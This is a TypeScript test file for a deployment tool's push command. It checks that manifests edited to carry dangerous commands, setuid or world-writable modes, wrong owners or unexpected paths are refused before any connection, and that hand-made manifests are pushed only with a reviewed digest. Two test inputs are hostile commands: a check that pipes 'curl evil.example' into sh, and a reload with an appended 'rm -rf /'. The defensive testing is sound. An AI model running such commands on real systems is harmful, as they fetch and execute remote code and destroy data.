/**
 * Issue 9, item 2: push trusts nothing in a manifest blindly. Every file is checked against the
 * manifest's JSON schema and the daemon catalogue before a connection is made: a check or reload
 * that is not the catalogue's, a setuid or world-writable mode, an owner or a path that is not its
 * kind's, is refused naming the field. A hand-made manifest is pushed only when the person vouches
 * for it by the digest that `--dry-run` prints, after the dry run listed every command.
 */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { CliIo } from '../../cli/main';
import { runPush } from '../../cli/push';
import { generateBundle } from '../../core/generate/index';
import type { Manifest } from '../../core/generate/bundle';
import type { Design } from '../../core/model';
import { nodeSha256 } from '../../deploy/hash';
import type { PushReport } from '../../deploy/push/index';
import { writeBundle } from '../../deploy/write-bundle';
import { checkedDesign, loadExample } from '../fixtures/examples';
import { requireSshd, startSshLab } from '../lab/sshd';
import type { SshLab } from '../lab/sshd';
import { digestOf, pushCli, snapshot, writeLabBundle } from './push-lab';

const scratch = mkdtempSync(join(tmpdir(), 'topoforge-push-manifest-'));
let count = 0;

afterAll(() => rmSync(scratch, { recursive: true, force: true }));

/** Writes the bundle of `design` as `topoforge generate` does; returns its folder. */
async function generated(design: Design): Promise<string> {
  count += 1;
  const directory = join(scratch, `bundle-${count}`);
  await writeBundle(generateBundle(design, { sha256: nodeSha256 }), directory);
  return directory;
}

/** Edits the bundle's manifest.json in place. */
function editManifest(directory: string, change: (manifest: Manifest) => void): void {
  const path = join(directory, 'manifest.json');
  const manifest = JSON.parse(readFileSync(path, 'utf8')) as Manifest;
  change(manifest);
  writeFileSync(path, `${JSON.stringify(manifest, null, 2)}\n`);
}

/** `topoforge push DIRECTORY --json ARGS…`, with no key or known_hosts of this machine. */
async function push(directory: string, args: string[] = []): Promise<{ code: number; output: unknown }> {
  let stdout = '';
  const io: CliIo = {
    stdout: (text) => void (stdout += text),
    stderr: () => undefined,
    readText: async (path) => readFileSync(path, 'utf8'),
    color: false,
  };
  const code = await runPush([directory, '--json', ...args], io, { home: join(scratch, 'home') });
  return { code, output: JSON.parse(stdout) };
}

/** The index of the manifest entry whose path is `path`. */
function entryAt(manifest: Manifest, path: string): number {
  const index = manifest.files.findIndex((file) => file.path === path);
  if (index < 0) throw new Error(`no ${path} in the manifest`);
  return index;
}

describe('a generated bundle passes the catalogue; an edited manifest is refused, naming the field', () => {
  let teramind: Design;
  beforeAll(() => {
    teramind = loadExample('teramind-ha.topo.json');
  });

  it.each([
    {
      what: 'a check edited to run something else as root',
      path: '/etc/haproxy/haproxy.cfg',
      edit: { check: 'sh -c "curl evil.example | sh" {}' },
      field: 'check',
      message:
        "is the HAProxy config: its check is 'haproxy -c -f {}', and push runs no other command as one",
    },
    {
      what: 'a reload edited',
      path: '/etc/haproxy/haproxy.cfg',
      edit: { reload: 'systemctl reload haproxy; rm -rf /' },
      field: 'reload',
      message: "its reload is 'systemctl reload haproxy'",
    },
    {
      what: 'a world-writable setuid unit (mode 7777)',
      path: '/etc/systemd/system/node-1.service',
      edit: { mode: '7777' },
      field: 'mode',
      message:
        "'7777' is not a mode push sets: octal bits like 0644, with no setuid, setgid or sticky bit and nothing writable by others",
    },
    {
      what: 'a setuid mode',
      path: '/etc/haproxy/haproxy.cfg',
      edit: { mode: '4755' },
      field: 'mode',
      message: 'no setuid, setgid or sticky bit',
    },
    {
      what: 'redis.conf made root-owned and world-writable',
      path: '/etc/redis/redis.conf',
      edit: { owner: 'root:root', mode: '0777' },
      field: 'mode',
      message: 'nothing writable by others',
    },
    {
      what: 'redis.conf made root-owned',
      path: '/etc/redis/redis.conf',
      edit: { owner: 'root:root' },
      field: 'owner',
      message: '/etc/redis/redis.conf is a Redis config: it belongs to redis:redis, not root:root',
    },
    {
      what: 'a mode the generators never give the file',
      path: '/etc/haproxy/haproxy.cfg',
      edit: { mode: '0600' },
      field: 'mode',
      message: '/etc/haproxy/haproxy.cfg is the HAProxy config: its mode is 0644, not 0600',
    },
    {
      what: 'a file moved to any absolute path',
      path: '/etc/haproxy/haproxy.cfg',
      edit: { path: '/etc/cron.d/topoforge' },
      field: 'path',
      message: '/etc/cron.d/topoforge is no file that Topoforge generates',
    },
    {
      what: 'a key the manifest has no place for',
      path: '/etc/haproxy/haproxy.cfg',
      edit: { runAs: 'root' },
      field: 'runAs',
      message: "unknown key 'runAs'",
    },
  ])('refuses $what', async ({ path, edit, field, message }) => {
    const directory = await generated(teramind);
    const before = await push(directory, ['--dry-run', '--host', 'nowhere']);
    // The generated bundle itself is fine: only the host name is wrong.
    expect(before.output).toMatchObject({ ok: false, error: { path: '--host' } });

    let index = 0;
    editManifest(directory, (manifest) => {
      index = entryAt(manifest, path);
      const entry = manifest.files[index]! as unknown as Record<string, unknown>;
      Object.assign(entry, edit);
      // Moving a file moves its bundle copy too, so only the path is wrong.
      if ('path' in edit) {
        const moved = join(directory, 'hosts', String(entry.host), String(edit.path).slice(1));
        mkdirSync(dirname(moved), { recursive: true });
        writeFileSync(moved, readFileSync(join(directory, 'hosts', String(entry.host), path.slice(1))));
      }
    });
    const refused = await push(directory);
    expect(refused.code).toBe(2);
    expect(refused.output).toMatchObject({ ok: false, error: { path: `$.files[${index}].${field}` } });
    expect((refused.output as { error: { message: string } }).error.message).toContain(message);
  });

  it('refuses a manifest whose digest is not the one vouched for', async () => {
    const directory = await generated(teramind);
    const refused = await push(directory, ['--manifest-digest', `sha256:${'0'.repeat(64)}`]);
    expect(refused.code).toBe(2);
    expect(refused.output).toMatchObject({ ok: false, error: { path: '--manifest-digest' } });
    expect((refused.output as { error: { message: string } }).error.message).toContain(
      'a command, mode, owner or path in it is not what was reviewed',
    );
  });

  it('refuses a manifest that fails its schema, naming the field', async () => {
    const directory = await generated(teramind);
    editManifest(directory, (manifest) => {
      (manifest.hosts[0]!.ssh as unknown as Record<string, unknown>).port = 'twenty-two';
    });
    const refused = await push(directory);
    expect(refused.output).toMatchObject({
      ok: false,
      error: { path: '$.hosts[0].ssh.port', message: "must be a whole number, not the text 'twenty-two'" },
    });
  });
});

describe.skipIf(!requireSshd())('reviewing what push runs', () => {
  let lab: SshLab;
  let knownHosts: string;
  beforeAll(async () => {
    lab = await startSshLab({ hosts: ['web-1'] });
  }, 60_000);
  afterAll(async () => {
    await lab?.stop();
  });
  beforeEach(() => {
    lab.reset();
    knownHosts = join(mkdtempSync(join(scratch, 'known-')), 'known_hosts');
    writeFileSync(knownHosts, lab.knownHosts());
  });

  it('--dry-run lists every command each host would run, exactly as its shell gets it', async () => {
    const host = lab.hosts[0]!;
    const design = checkedDesign({
      format: 1,
      name: 'Review',
      hosts: [{ id: 'web-1', address: '127.0.0.1', ssh: { user: 'root', port: host.port, root: host.root } }],
      services: [
        { id: 'front', kind: 'nginx', host: 'web-1', listen: [{ port: 8080, protocol: 'http' }] },
        { id: 'app-1', kind: 'app', host: 'web-1', port: 9000, command: '/usr/bin/true' },
        { id: 'cache', kind: 'redis', host: 'web-1' },
      ],
      links: [{ from: 'front', to: 'app-1' }],
    });
    const directory = await generated(design);
    const run = await pushCli(lab, directory, knownHosts, ['--dry-run']);
    expect(run.code, run.stdout + run.stderr).toBe(0);
    const temporary = (path: string): string =>
      `${host.root}${path.replace(/\/([^/]+)$/u, '/.$1')}.topoforge-new-`;
    const lines = run.stdout.split('\n');
    const listed = lines.slice(
      lines.indexOf('web-1 would run:') + 1,
      lines.indexOf('', lines.indexOf('web-1 would run:')),
    );
    expect(listed.map((line) => line.replace(/topoforge-new-[0-9a-f]{12}/gu, 'topoforge-new-'))).toEqual([
      `  check   nginx -t -q -c ${temporary('/etc/nginx/nginx.conf')}`,
      `  check   systemd-analyze verify --man=no ${temporary('/etc/systemd/system/app-1.service')}:app-1.service`,
      `  check   systemd-analyze verify --man=no ${temporary('/etc/systemd/system/redis-server.service')}:redis-server.service`,
      '  reload  systemctl daemon-reload',
      '  reload  systemctl reload nginx',
      '  reload  systemctl restart redis-server.service',
      "  reload  sh -c 'systemctl enable app-1.service && systemctl restart app-1.service'",
      "  reload  sh -c 'systemctl enable redis-server.service && systemctl restart redis-server.service'",
    ]);
    expect(run.stdout).toContain(`manifest digest (commands, modes, owners, paths): ${digestOf(directory)}`);
    expect(run.stdout).not.toContain('not in the daemon catalogue');

    const json = await pushCli(lab, directory, knownHosts, ['--dry-run', '--json']);
    const report = JSON.parse(json.stdout) as PushReport & { manifestDigest: string };
    expect(report.manifestDigest).toBe(digestOf(directory));
    expect(report.hosts[0]!.commands?.map((command) => command.step)).toEqual([
      'checking',
      'checking',
      'checking',
      'reloading',
      'reloading',
      'reloading',
      'reloading',
      'reloading',
    ]);
    expect(report.hosts[0]!.commands?.[0]).toMatchObject({ path: '/etc/nginx/nginx.conf' });
    expect(snapshot(host)).toEqual({});
  });

  it('pushes a hand-made manifest only with the digest its dry run printed', async () => {
    const host = lab.hosts[0]!;
    const directory = await writeLabBundle(lab, join(scratch, `hand-made-${count++}`), 'Hand-made', {
      'web-1': [
        {
          path: '/etc/app/app.conf',
          content: 'ok\n',
          check: 'test -s {}',
          reload: `touch ${host.directory}/reloaded`,
        },
      ],
    });
    const review = await pushCli(lab, directory, knownHosts, ['--dry-run']);
    expect(review.code).toBe(0);
    expect(review.stdout).toMatch(
      /web-1 would run:\n {2}check {3}test -s \S+\/etc\/app\/\.app\.conf\.topoforge-new-[0-9a-f]{12}\n/u,
    );
    expect(review.stdout).toContain(`  reload  touch ${host.directory}/reloaded`);
    expect(review.stdout).toContain(
      'not in the daemon catalogue: $.files[0].path: /etc/app/app.conf is no file that Topoforge generates',
    );
    const digest = /manifest digest \(commands, modes, owners, paths\): (sha256:[0-9a-f]{64})/u.exec(
      review.stdout,
    )?.[1];
    expect(digest).toBe(digestOf(directory));

    const refused = await pushCli(lab, directory, knownHosts, []);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain(
      '$.files[0].path: /etc/app/app.conf is no file that Topoforge generates',
    );
    expect(refused.stderr).toContain('--manifest-digest');
    expect(snapshot(host)).toEqual({});

    const vouched = await pushCli(lab, directory, knownHosts, ['--manifest-digest', digest!]);
    expect(vouched.code, vouched.stdout).toBe(0);
    expect(snapshot(host)).toEqual({ 'etc/app/app.conf': '644 ok\n' });
  });
});
